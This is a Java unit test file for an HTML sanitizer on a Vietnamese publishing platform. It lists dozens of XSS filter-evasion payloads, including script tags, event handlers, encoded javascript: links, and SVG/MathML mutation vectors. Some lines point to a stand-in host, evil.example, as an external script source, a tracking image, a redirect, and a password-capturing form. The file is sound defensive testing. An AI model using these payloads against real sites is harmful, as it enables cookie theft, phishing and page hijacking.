package vn.bangtin.platform.text;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.bangtin.platform.BusinessException;

class SafeHtmlTest {

    private static final Set<String> ALLOWED = Set.of(
            "p",
            "br",
            "hr",
            "h2",
            "h3",
            "h4",
            "strong",
            "b",
            "em",
            "i",
            "u",
            "s",
            "sub",
            "sup",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "img",
            "figure",
            "figcaption",
            "pre",
            "code",
            "table",
            "caption",
            "thead",
            "tbody",
            "tfoot",
            "tr",
            "th",
            "td");

    /** From the OWASP cheat sheet on filter evasion, known mutation attacks on DOM parsers, and what Word pastes. */
    static List<String> hostile() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<p>a<script/src=data:,alert(1)></p>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"/media/a.jpg\" OnErRoR=\"alert(1)\">",
                "<img/src=\"x\"/onerror=alert(1)//",
                "<p onclick=\"alert(1)\" onmouseover='alert(1)'>a</p>",
                "<a href=\"javascript:alert(1)\">a</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
                "<a href=\"  javascript:alert(1)\">a</a>",
                "<a href=\"java\tscript:alert(1)\">a</a>",
                "<a href=\"java\nscript:alert(1)\">a</a>",
                "<a href=\"\u0001javascript:alert(1)\">a</a>",
                "<a href=\"&#106;avascript:alert(1)\">a</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">a</a>",
                "<a href=\"javascript&colon;alert(1)\">a</a>",
                "<a href=\"java&Tab;script:alert(1)\">a</a>",
                "<a href=\"vbscript:msgbox(1)\">a</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img src=\"https://evil.example/who-reads.gif\">",
                "<img src=\"//evil.example/who-reads.gif\">",
                "<img src=\"\\\\evil.example\\x.gif\">",
                "<img src=\"/\\evil.example/x.gif\">",
                "<img src=\"/\t/evil.example/x.gif\">",
                "<img srcset=\"https://evil.example/x.gif 1x\" src=\"/media/a.jpg\">",
                "<iframe src=\"https://evil.example\"></iframe>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
                "<object data=\"x.swf\"></object><embed src=\"x.swf\"><applet code=x></applet>",
                "<svg onload=alert(1)><circle r=1 /></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>a</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
                "<style>body{background:url(javascript:alert(1))}</style>",
                "<p style=\"background:url(https://evil.example/x.gif)\">a</p>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<form action=\"https://evil.example\"><input name=password><button>OK</button></form>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<template><script>alert(1)</script></template>",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
                "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
                "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp>",
                "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml version=\"1.0\"?><?import namespace=\"t\" ?>",
                "<p title=\"`onmouseover=alert(1)\">a</p>",
                "<details open ontoggle=alert(1)><summary>a</summary></details>",
                "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>a</marquee>",
                "<a href=\"https://example.vn\" target=\"_blank\" onclick=\"alert(1)\" ping=\"https://evil.example\">a</a>",
                "<div><div><b><script>alert(1)</script></b></div></div>".repeat(30),
                "<b>".repeat(200) + "<script>alert(1)</script>",
                "<a id=\"x\" name=\"form\" class=\"btn danger\">a</a>",
                "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">a</td></tr></table>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<<script>alert(1);//<</script>",
                "<ï½script>alert(1)</script>");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void what_is_hostile_never_passes(String html) {
        assertHarmless(SafeHtml.clean(html));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void what_passed_once_passes_unchanged_so_that_no_parser_makes_something_else_of_it(String html) {
        var once = SafeHtml.clean(html);
        assertThat(SafeHtml.clean(once)).isEqualTo(once);
    }

    /** Judges the result as a browser would parse it, not as a string. */
    static void assertHarmless(String clean) {
        for (var element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
            if (element.normalName().equals("body")) {
                continue;
            }
            assertThat(ALLOWED).contains(element.normalName());
            for (var attribute : element.attributes()) {
                var name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).doesNotStartWith("on").isNotIn("style", "class", "id", "srcset", "target", "ping");
                if (name.equals("href")) {
                    assertThat(attribute.getValue()).matches("(?s)(https?://|mailto:)\\S.*|(?!//)[^:\\\\\\p{Cntrl}]*");
                }
                if (name.equals("src")) {
                    assertThat(attribute.getValue()).matches("(?!//)(?!/\\\\)[^:\\\\\\p{Cntrl}]+");
                }
            }
        }
    }

    @Test
    void what_an_editor_needs_stays_as_it_was() {
        var html = "<h2>Kết quả</h2><p>Đã có <strong>80</strong> xã, phường; <em>còn</em> 12<sup>a</sup>.</p>"
                + "<ul><li>một</li><li>hai</li></ul><ol start=\"3\"><li>ba</li></ol>"
                + "<blockquote>Trích</blockquote>"
                + "<table><caption>Bảng 1</caption><thead><tr><th scope=\"col\" colspan=\"2\">Xã</th></tr></thead>"
                + "<tbody><tr><td>A</td><td rowspan=\"2\">B</td></tr></tbody></table>"
                + "<figure><img src=\"/media/ab/640/anh.jpg\" alt=\"Hội trường\" width=\"640\"><figcaption>Hội trường"
                + "</figcaption></figure>";
        assertThat(SafeHtml.clean(html)).isEqualTo(html);
    }

    @Test
    void a_link_to_another_host_tells_it_nothing() {
        assertThat(SafeHtml.clean("<a href=\"https://chinhphu.vn/\">Cổng</a>"))
                .isEqualTo("<a href=\"https://chinhphu.vn/\" rel=\"noopener noreferrer\">Cổng</a>");
        assertThat(SafeHtml.clean("<a href=\"//chinhphu.vn/\">Cổng</a>")).contains("rel=");
        assertThat(SafeHtml.clean("<a href=\"/news/5/tin\">Tin</a> <a href=\"mailto:vp@so.example.vn\">Thư</a>"))
                .isEqualTo("<a href=\"/news/5/tin\">Tin</a> <a href=\"mailto:vp@so.example.vn\">Thư</a>");
    }

    @Test
    void a_second_h1_becomes_an_h2() {
        assertThat(SafeHtml.clean("<h1>Lớn</h1>")).isEqualTo("<h2>Lớn</h2>");
    }

    @Test
    void text_is_stored_in_nfc() {
        assertThat(SafeHtml.clean("<p>Hà Nội</p>")).isEqualTo("<p>Hà Nội</p>");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "  ", "<p></p>", "<p>&nbsp;</p>", "<p><br></p>", "<script>x()</script>", "<!-- a -->"})
    void nothing_to_read_is_nothing(String html) {
        assertThat(SafeHtml.clean(html)).isEmpty();
    }

    @Test
    void nothing_is_nothing() {
        assertThat(SafeHtml.clean(null)).isEmpty();
        assertThat(SafeHtml.text(null)).isEmpty();
    }

    @Test
    void its_words_come_without_markup() {
        assertThat(SafeHtml.text("<p>Một &amp; <b>hai</b></p><p>ba</p>")).isEqualTo("Một & hai ba");
    }

    @Test
    void five_megabytes_are_refused_before_anybody_reads_them() {
        var huge = "<p>Một đoạn văn.</p>".repeat(5_000_000 / 20 + 1);
        assertThatThrownBy(() -> SafeHtml.clean(huge)).isInstanceOfSatisfying(BusinessException.class, e -> {
            assertThat(e.key()).isEqualTo("html.tooLong");
            assertThat(e.field()).isEqualTo("body");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<blockquote>",
                "<b>",
                "<ul><li>",
                "<table><tr><td>",
                "<svg><td>",
                "<b></i>",
                "<font size=1>",
                "<x:y>"
            })
    void ten_thousand_nested_tags_are_refused_before_anybody_reads_them(String tags) {
        assertThatThrownBy(() -> SafeHtml.clean(tags.repeat(10_000) + "x"))
                .isInstanceOfSatisfying(
                        BusinessException.class, e -> assertThat(e.key()).isEqualTo("html.tooDeep"));
    }

    @Test
    void a_tag_that_is_never_closed_does_not_multiply() {
        var open = new StringBuilder();
        for (var i = 0; i < 200; i++) {
            open.append("<b id=").append(i).append('>');
        }
        assertThatThrownBy(() -> SafeHtml.clean(open + "<p>x".repeat(100_000)))
                .isInstanceOfSatisfying(
                        BusinessException.class, e -> assertThat(e.key()).isEqualTo("html.tooDeep"));
    }

    @Test
    void a_long_text_of_many_paragraphs_lists_and_tables_is_not_deep() {
        var row = "<tr><td>1</td><td>Một</td></tr>";
        var html = "<p>Một đoạn <b>đậm</b>.</p>".repeat(2_000) + "<ul><li>a<li>b</ul><p>x<p>y<br>".repeat(2_000)
                + "<table><tbody>" + row.repeat(1_000) + "</tbody></table>";
        assertThat(SafeHtml.clean(html)).contains("<li>b</li>").endsWith("</table>");
    }

    @Test
    void a_figure_without_its_picture_is_a_paragraph() {
        assertThat(
                        SafeHtml.clean(
                                "<figure><img src=\"https://other.example/a.jpg\" alt=\"a\"><figcaption>Chú thích</figcaption></figure>"))
                .isEqualTo("<p>Chú thích</p>");
    }

    @Test
    void what_the_editor_writes_for_its_own_needs_is_not_kept() {
        assertThat(
                        SafeHtml.clean(
                                "<p></p><ul><li><p>một</p></li><li><p>hai</p><ul><li><p>ba</p></li></ul></li></ul><h2></h2>"
                                        + "<table><tbody><tr><th><p>Xã</p></th></tr><tr><td><p></p></td></tr></tbody></table>"
                                        + "<figure><img src=\"/media/a/960/b\" alt=\"a\"><figcaption></figcaption></figure><p></p>"))
                .isEqualTo("<ul><li>một</li><li>hai<ul><li>ba</li></ul></li></ul>"
                        + "<table><tbody><tr><th scope=\"col\">Xã</th></tr><tr><td></td></tr></tbody></table>"
                        + "<figure><img src=\"/media/a/960/b\" alt=\"a\"></figure>");
    }

    @Test
    void look_alikes_are_repaired_in_the_words_and_nowhere_else() {
        assertThat(SafeHtml.clean("<p>v\u01CEn <a href=\"/tim?q=v\u01CEn\">b\u1EA3n</a></p>"))
                .isEqualTo("<p>văn <a href=\"/tim?q=v\u01CEn\">bản</a></p>");
    }
}
